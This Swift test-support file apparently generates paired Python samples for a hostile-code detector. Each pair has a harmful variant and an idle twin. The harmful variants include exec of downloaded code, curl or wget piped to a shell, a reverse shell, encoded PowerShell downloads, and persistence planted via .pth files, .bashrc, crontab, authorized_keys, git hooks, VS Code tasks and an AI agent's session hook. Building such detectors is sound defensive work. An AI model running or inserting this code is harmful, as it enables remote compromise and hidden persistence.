import TestSupport

extension Family {
  /// Code that comes from the network, and what plants itself for later.
  static let remote = Family(
    name: "remote",
    techniques: [
      fetched(
        "exec of a page", "exec(urllib.request.urlopen({url}).read())", "{a} = urllib.request.Request({url}).full_url"),
      fetched(
        "exec of a decoded page", "exec(base64.b64decode(urllib.request.urlopen({url}).read()))",
        "{a} = base64.b64encode({url}.encode())"),
      fetched(
        "exec of a JSON field", "exec(json.loads(urllib.request.urlopen({url}).read())[\"{a}\"])",
        "{b} = json.loads(json.dumps({\"{a}\": {url}}))[\"{a}\"]"),
      fetched(
        "a fetched module", "{a} = types.ModuleType(\"{a}\")\nexec(urllib.request.urlopen({url}).read(), {a}.__dict__)",
        "{a} = types.ModuleType(\"{a}\")\n{a}.__doc__ = {url}"),
      fetched(
        "a page given to a child",
        "subprocess.run([sys.executable, \"-S\", \"-c\", urllib.request.urlopen({url}).read()])",
        "{a} = [sys.executable, \"-S\", \"-c\", {url}]"),
      fetched(
        "urlretrieve and run",
        "urllib.request.urlretrieve({url}, \"/tmp/{a}\")\nsubprocess.run([\"/bin/sh\", \"/tmp/{a}\"])",
        "{a} = (urllib.request.urlretrieve, \"/tmp/{a}\", subprocess.DEVNULL)"),
      fetched(
        "a downloaded program made executable",
        "urllib.request.urlretrieve({url}, \"/tmp/{a}\")\nos.chmod(\"/tmp/{a}\", 0o755)\nsubprocess.Popen([\"/tmp/{a}\"])",
        "{b} = (os.chmod, \"/tmp/{a}\", 0o755, {url})"),
      fetched(
        "a downloaded zip application",
        "open(\"/tmp/{a}.pyz\", \"wb\").write(urllib.request.urlopen({url}).read())\nsubprocess.Popen([sys.executable, \"-S\", \"/tmp/{a}.pyz\"], start_new_session=True)",
        "{b} = [sys.executable, \"-S\", \"/tmp/{a}.pyz\", {url}]"),
      fetched(
        "a downloaded library",
        "import ctypes\nurllib.request.urlretrieve({url}, \"/tmp/{a}.so\")\nctypes.CDLL(\"/tmp/{a}.so\")",
        "import ctypes\n{b} = (ctypes.c_int(1).value, \"/tmp/{a}.so\", {url})"),
      fetched(
        "requests", "import requests\nexec(requests.get({url}).text)",
        "import requests\n{a} = (requests.get.__name__, {url})"),
      fetched(
        "a socket", "{a} = socket.create_connection((\"127.0.0.1\", {port}))\nexec({a}.recv(65536))",
        "{a} = (socket.AF_INET, \"127.0.0.1\", {port})"),
      fetched(
        "a reverse shell",
        "{a} = socket.socket()\n{a}.connect((\"127.0.0.1\", {port}))\nfor {b} in (0, 1, 2):\n    os.dup2({a}.fileno(), {b})\nsubprocess.call([\"/bin/sh\", \"-i\"])",
        "{a} = (socket.SOCK_STREAM, (\"127.0.0.1\", {port}), os.dup2, [\"/bin/sh\", \"-i\"])"),
      fetched(
        "http.client",
        "{a} = http.client.HTTPConnection(\"127.0.0.1\", {port})\n{a}.request(\"GET\", \"/{b}\")\nexec({a}.getresponse().read())",
        "{a} = (http.client.HTTPConnection.default_port, \"127.0.0.1\", {port})"),
      fetched(
        "curl into a shell", "os.system(\"curl -fsSL \" + {url} + \" | sh\")",
        "{a} = \"curl -fsSL \" + {url} + \" | sh\""),
      fetched(
        "curl into python", "subprocess.run(\"curl -s \" + {url} + \" | python3 -S -\", shell=True)",
        "{a} = (\"curl -s \" + {url}).split()"),
      fetched(
        "wget, chmod and run", "os.system(\"wget -qO /tmp/{a} \" + {url} + \" && chmod +x /tmp/{a} && /tmp/{a} &\")",
        "{b} = len(\"wget -qO /tmp/{a} \" + {url})"),
      fetched(
        "command substitution", "subprocess.run([\"bash\", \"-c\", \"$(curl -fsS \" + {url} + \")\"])",
        "{a} = [\"bash\", \"-c\", {url}]"),
      fetched(
        "a host name put together",
        "exec(urllib.request.urlopen(\"http://\" + \".\".join([\"127\", \"0\", \"0\", \"1\"]) + \":\" + str({port}) + \"/\" + \"{a}\"[::-1]).read())",
        "{b} = \"http://\" + \".\".join([\"127\", \"0\", \"0\", \"1\"]) + \":\" + str({port})"),
      fetched(
        "a generated host name",
        "import hashlib, time\n{a} = hashlib.md5(str(int(time.time()) // 86400).encode()).hexdigest()[:12]\nexec(urllib.request.urlopen(\"http://\" + {a} + \".example.org/\").read())",
        "import hashlib, time\n{a} = hashlib.md5(str(int(time.time()) // 86400).encode()).hexdigest()[:12] + \".example.org\""
      ),
      fetched(
        "answers of name servers",
        "{a} = b\"\"\nfor {b} in range(8):\n    {a} += socket.inet_aton(socket.gethostbyname(\"%d.{b}.example.org\" % {b}))\nexec({a})",
        "{a} = b\"\"\nfor {b} in range(8):\n    {a} += socket.inet_aton(\"127.0.0.%d\" % {b})"),
      fetched(
        "pip in a child",
        "subprocess.run([sys.executable, \"-m\", \"pip\", \"install\", \"--index-url\", {url}, \"{a}\"])",
        "{b} = [sys.executable, \"-m\", \"pip\", \"install\", \"--index-url\", {url}, \"{a}\"]"),
      fetched(
        "pip in a shell", "os.system(\"pip install -q \" + {url} + \"{a}.tar.gz\")",
        "{b} = \"pip install -q \" + {url} + \"{a}.tar.gz\""),
      fetched(
        "node from the network", "os.system(\"node -e \\\"$(curl -s \" + {url} + \")\\\"\")",
        "{b} = \"node -e \" + {url}"),
      fetched(
        "a powershell download",
        "subprocess.run([\"powershell\", \"-enc\", base64.b64encode((\"iex (iwr \" + {url} + \")\").encode(\"utf-16-le\")).decode()])",
        "{b} = base64.b64encode((\"iex (iwr \" + {url} + \")\").encode(\"utf-16-le\")).decode()"),
      planted(
        "a .pth file",
        "open(os.path.join(site.getsitepackages()[0], \"{a}.pth\"), \"w\").write(\"import os; exec({code})\\n\")"),
      planted(
        "a .pth file by sysconfig",
        "open(os.path.join(sysconfig.get_paths()[\"purelib\"], \"{a}.pth\"), \"w\").write(\"import {b}\\n\")"),
      planted(
        "sitecustomize in the user's site",
        "pathlib.Path(site.getusersitepackages(), \"sitecustomize.py\").write_text(\"import {a}\")"),
      planted(
        "a shell's start-up file",
        "open(os.path.expanduser(\"~/.bashrc\"), \"a\").write(\"\\npython3 -S -c 'import {a}' &\\n\")"),
      planted(
        "a user's unit",
        "os.makedirs(os.path.expanduser(\"~/.config/systemd/user\"), exist_ok=True)\nopen(os.path.expanduser(\"~/.config/systemd/user/{a}.service\"), \"w\").write(\"[Service]\\nExecStart=/usr/bin/python3 -m {b}\\n\")\nos.system(\"systemctl --user enable {a}\")"
      ),
      planted("crontab", "os.system(\"(crontab -l; echo '*/5 * * * * python3 -m {a}') | crontab -\")"),
      planted(
        "an autostart entry",
        "pathlib.Path.home().joinpath(\".config/autostart/{a}.desktop\").write_text(\"[Desktop Entry]\\nExec=python3 -m {b}\\n\")"
      ),
      planted(
        "authorized_keys",
        "open(os.path.expanduser(\"~/.ssh/authorized_keys\"), \"a\").write(\"ssh-ed25519 {b} {a}\\n\")"),
      planted(
        "a git hook",
        "os.system(\"git config --global core.hooksPath /tmp/{a}\")\npathlib.Path(\"/tmp/{a}/pre-commit\").write_text(\"#!/bin/sh\\npython3 -m {b}\\n\")"
      ),
      planted(
        "an editor's task",
        "pathlib.Path(\".vscode/tasks.json\").write_text(\"{\\\"tasks\\\": [{\\\"command\\\": \\\"python3 -m {a}\\\", \\\"runOptions\\\": {\\\"runOn\\\": \\\"folderOpen\\\"}}]}\")"
      ),
      planted(
        "an agent's hook",
        "pathlib.Path.home().joinpath(\".claude/settings.json\").write_text(\"{\\\"hooks\\\": {\\\"SessionStart\\\": [{\\\"command\\\": \\\"python3 -m {a}\\\"}]}}\")"
      ),
      planted(
        "an IPython start-up file",
        "pathlib.Path(\"~/.ipython/profile_default/startup/00-{a}.py\").expanduser().write_text(\"import {b}\")"),
    ])

  private static let imports = "import base64, http.client, json, os, socket, subprocess, sys, types, urllib.request\n"

  /// Code that is fetched and run; the twin has the same words and connects to nothing.
  private static func fetched(_ name: String, _ run: String, _ idle: String) -> Technique {
    Technique(name, twin: .idle) { plot in
      let port = plot.scene.pick(Scene.ports)
      let (a, b) = (plot.scene.word(), plot.scene.word())
      var text = plot.isHarmful ? run : idle
      for (hole, value) in [
        ("{a}", a), ("{b}", b), ("{port}", "\(port)"), ("{url}", "\"http://127.0.0.1:\(port)/\(plot.scene.word())\""),
      ] {
        text = text.replacing(hole, with: value)
      }
      return Code(imports + text + "\n")
    }
  }

  /// Code that writes itself where it starts again; the twin has the texts and writes nothing.
  private static func planted(_ name: String, _ statement: String) -> Technique {
    Technique(name, twin: .idle) { plot in
      let text = statement.replacing("{a}", with: plot.scene.word()).replacing("{b}", with: plot.scene.word())
        .replacing("{code}", with: "'print(1)'")
      let name = plot.scene.word()
      let use = plot.isHarmful ? text : "\(name) = len(\(Python.string(text)))"
      return Code("import os, pathlib, site, sysconfig\n\(use)\n")
    }
  }
}
